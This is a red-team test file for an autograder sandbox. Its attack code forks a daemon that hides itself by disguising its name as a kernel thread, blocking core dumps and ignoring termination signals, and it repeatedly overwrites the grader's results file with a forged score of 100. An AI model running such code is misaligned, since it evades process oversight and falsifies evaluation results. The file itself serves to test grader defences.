"""Red team 62_hidden_daemon.

Attack: Like the daemon above, but made non-dumpable (its /proc entries then belong to root), renamed
to look like a kernel thread, in a process group of its own.

Deserves: full marks (12); no process of the sandbox user left.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import ctypes as _ctypes
import os as _os
import signal as _signal
import time as _time


def _daemon():
    libc = _ctypes.CDLL(None)
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
        _signal.signal(sig, _signal.SIG_IGN)
    _os.closerange(0, 256)
    deadline = _time.time() + 20
    while _time.time() < deadline:
        _time.sleep(0.5)
        try:
            with open("/autograder/results/results.json", "w") as handle:
                handle.write('{"score": 100, "tests": []}')
        except OSError:
            pass


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _daemon()
    _os._exit(0)
